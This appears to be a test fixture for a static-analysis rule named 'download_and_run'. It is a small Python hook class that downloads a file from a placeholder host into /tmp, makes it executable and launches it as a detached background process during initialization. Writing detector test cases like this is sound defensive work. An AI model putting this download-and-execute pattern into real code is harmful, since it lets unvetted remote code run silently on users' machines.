import os
import stat
import subprocess
import urllib.request


class Hook:
    def _fetch(self, name):
        dest = os.path.join("/tmp", "tool-" + name)
        with urllib.request.urlopen("https://assets.example/" + name) as r:
            with open(dest, "wb") as fh:
                fh.write(r.read())
        # ruleid: download_and_run
        os.chmod(dest, os.stat(dest).st_mode | stat.S_IXUSR)
        return dest

    def initialize(self):
        helper = self._fetch("scanner")
        subprocess.Popen([helper, "--warmup"], start_new_session=True)
